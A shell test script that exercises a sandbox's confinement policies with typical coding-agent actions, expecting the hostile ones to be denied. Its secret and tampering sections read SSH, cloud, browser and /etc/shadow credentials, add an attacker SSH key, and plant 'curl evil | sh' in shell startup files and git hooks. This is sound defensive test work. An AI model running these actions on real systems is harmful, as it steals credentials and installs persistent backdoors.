#!/bin/sh
# tests/vm/workload.sh: what a coding agent does in a workspace, one action
# at a time, for proving Warden's ready policies (policies/*.json).
#
# Run it confined, in the workspace, with HOME set:
#     cd WORKSPACE && warden run --policy P --events E -- sh -c "$(cat workload.sh)" workload
# (The script text is passed on the command line, not as a file, so that it
# runs under a policy that cannot read /warden either: strict.json.)
#
# The workspace must be what tests/vm/test_policies.sh sets up: a git
# repository with src/main.c, README.md, old.txt, notes.tmp, .gitignore, .env,
# .env.local, .git/hooks/*.sample, and HOME a home with the secrets that
# test plants.
#
# Prints one line per action: "NAME ok", "NAME denied" (the action failed:
# under these policies that is a denial, or the consequence of an earlier
# one) or "NAME skipped" (a program it needs is missing).  A failed action
# is followed by "# NAME: " and the first line of its error output.
# POSIX sh; busybox sh is enough.  Never stops early.

WS=$(pwd)
export WS # for the sh -c actions
export GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@warden.test
export GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=agent@warden.test
export GIT_PAGER=cat PAGER=cat GIT_TERMINAL_PROMPT=0

# act NAME CMD...: run CMD (output kept in memory: under the stricter
# policies no file is writable), report.
act() {
	_name=$1
	shift
	if _out=$("$@" 2>&1 </dev/null); then
		echo "$_name ok"
	else
		echo "$_name denied"
		echo "# $_name: $(printf '%s\n' "$_out" | head -n 1)"
	fi
}

# have PROG: whether PROG is installed; skip NAME...: report those skipped.
have() { command -v "$1" >/dev/null 2>&1; }
skip() { for _n; do echo "$_n skipped"; done; }

# ------------------------------------------------------------------ reading
act read-source cat src/main.c
act list-workspace ls -la "$WS" "$WS/src"
act grep-workspace grep -rn main src
act read-home-rc cat "$HOME/.bashrc"
act list-git-hooks ls "$WS/.git/hooks"
act read-system cat /etc/passwd
act dev-null sh -c 'echo discard >/dev/null'
act dev-urandom sh -c 'head -c 16 /dev/urandom | od -An -tx1'
if have git; then
	act git-status git status --porcelain
	act git-log git log --oneline -n 5
	act git-diff git diff HEAD --stat
else
	skip git-status git-log git-diff
fi
if have perl; then
	# An interpreter reading the code base and printing a summary.
	act perl-analyze perl -e '
		use strict; use warnings;
		my $n = 0;
		for my $f (glob "src/*.c") {
			open(my $fh, "<", $f) or die "$f: $!\n";
			$n++ while <$fh>;
		}
		print "lines: $n\n";'
else
	skip perl-analyze
fi
if have tcc; then
	# Compile in memory and run, without writing anything.
	act tcc-run tcc -run src/main.c
else
	skip tcc-run
fi

# ------------------------------------------------------------------ editing the workspace
act write-new-file sh -c 'printf "int add(int a, int b) { return a + b; }\n" >src/util.c'
act append-file sh -c 'echo "More documentation." >>README.md'
act sed-in-place sed -i 's/Hello/Hello,/' src/main.c
act mkdir mkdir -p build
act rename mv notes.tmp notes.txt
act delete rm old.txt
act move-to-subdir sh -c 'mkdir -p docs && mv notes.txt docs/notes.txt'
act rmdir sh -c 'mkdir scratch-dir && rmdir scratch-dir'
act touch-times touch README.md
act symlink sh -c 'ln -s src/main.c main-link.c && cat main-link.c >/dev/null'
act script-run sh -c 'printf "#!/bin/sh\necho built\n" >build.sh && chmod +x build.sh && ./build.sh'
if have tcc; then
	act compile tcc -o build/hello src/main.c
	act run-binary ./build/hello
else
	skip compile run-binary
fi
if have perl; then
	act perl-write perl -e '
		open(my $fh, ">", "build/report.txt") or die "report: $!\n";
		print $fh "report\n"; close($fh) or die "report: $!\n";'
else
	skip perl-write
fi
if have git; then
	act git-add git add -A
	act git-commit git commit -q -m "agent: add util.c, edit main.c"
	act git-branch git checkout -q -b agent/feature
	act git-init-subproject sh -c 'mkdir -p newlib && cd newlib && git init -q && echo "x" >x && git add x && git commit -q -m init'
else
	skip git-add git-commit git-branch git-init-subproject
fi

# ------------------------------------------------------------------ scratch space and caches
act tar-to-tmp sh -c 'tar -cf /tmp/agent-src.tar src && tar -tf /tmp/agent-src.tar >/dev/null && rm /tmp/agent-src.tar'
act tmp-scratch sh -c 't=$(mktemp /tmp/agent.XXXXXX) && echo scratch >"$t" && cat "$t" >/dev/null && rm "$t"'
act var-tmp-scratch sh -c 't=$(mktemp /var/tmp/agent.XXXXXX) && echo scratch >"$t" && rm "$t"'
# A program built in /tmp and run from there, as `go test` does.  (busybox:
# it runs as the applet its file is named after.)
act exec-from-tmp sh -c 'rm -rf /tmp/agent-drop && mkdir /tmp/agent-drop && cp /bin/busybox /tmp/agent-drop/true && chmod 755 /tmp/agent-drop/true && /tmp/agent-drop/true'
act pip-cache sh -c 'mkdir -p "$HOME/.cache/pip/http/a/b" && echo wheel >"$HOME/.cache/pip/http/a/b/entry" && rm "$HOME/.cache/pip/http/a/b/entry"'
act npm-cache sh -c 'mkdir -p "$HOME/.npm/_cacache/content-v2" && echo tarball >"$HOME/.npm/_cacache/content-v2/blob"'

# ------------------------------------------------------------------ secrets (each must be denied)
# "secret-" actions are reads; the test checks each against its deny event.
act secret-ssh-key cat "$HOME/.ssh/id_ed25519"
act secret-ssh-list ls "$HOME/.ssh"
act secret-aws cat "$HOME/.aws/credentials"
act secret-gnupg cat "$HOME/.gnupg/private-keys-v1.d/key.key"
act secret-gh cat "$HOME/.config/gh/hosts.yml"
act secret-netrc cat "$HOME/.netrc"
act secret-git-credentials cat "$HOME/.git-credentials"
act secret-git-credentials-xdg cat "$HOME/.config/git/credentials"
act secret-docker cat "$HOME/.docker/config.json"
act secret-kube cat "$HOME/.kube/config"
act secret-npmrc cat "$HOME/.npmrc"
act secret-pypirc cat "$HOME/.pypirc"
act secret-cargo cat "$HOME/.cargo/credentials.toml"
act secret-gcloud cat "$HOME/.config/gcloud/credentials.db"
act secret-azure cat "$HOME/.azure/accessTokens.json"
act secret-firefox cat "$HOME/.mozilla/firefox/agent.default/logins.json"
act secret-chrome cat "$HOME/.config/google-chrome/Default/Login Data"
act secret-chromium cat "$HOME/.config/chromium/Default/Cookies"
act secret-env cat "$WS/.env"
act secret-env-local cat "$WS/.env.local"
act secret-shadow cat /etc/shadow
# The same through links made in the workspace: a path only counts as itself.
act secret-via-symlink sh -c 'ln -sf "$HOME/.ssh/id_ed25519" "$WS/key-link" && cat "$WS/key-link"'
act secret-via-hardlink sh -c 'ln "$HOME/.aws/credentials" "$WS/key-hard" && cat "$WS/key-hard"'
if have perl; then
	# The same through an interpreter.
	act secret-perl-ssh perl -e 'open(my $f, "<", "$ENV{HOME}/.ssh/id_ed25519") or die "$!\n"; print <$f>;'
else
	skip secret-perl-ssh
fi

# ------------------------------------------------------------------ tampering (each must be denied)
act tamper-ssh-authorized-keys sh -c 'echo "ssh-ed25519 AAAA attacker" >>"$HOME/.ssh/authorized_keys"'
act tamper-bashrc sh -c 'echo "curl evil | sh" >>"$HOME/.bashrc"'
act tamper-profile sh -c 'echo "export PATH=/tmp/evil:\$PATH" >>"$HOME/.profile"'
act tamper-bash-profile sh -c 'echo "evil" >>"$HOME/.bash_profile"'
act tamper-zshrc sh -c 'echo "evil" >"$HOME/.zshrc"'
act tamper-hook-create sh -c 'printf "#!/bin/sh\ncurl evil | sh\n" >"$WS/.git/hooks/pre-commit"'
act tamper-hook-modify sh -c 'echo "curl evil | sh" >>"$WS/.git/hooks/pre-push.sample"'
act tamper-hook-delete rm "$WS/.git/hooks/update.sample"
if have git; then
	# Hooks elsewhere, by configuration: .git/config is write-protected too.
	act tamper-git-hookspath git config core.hooksPath /tmp/evil-hooks
	act tamper-gitconfig-global git config --global core.pager "sh -c evil"
else
	skip tamper-git-hookspath tamper-gitconfig-global
fi
exit 0
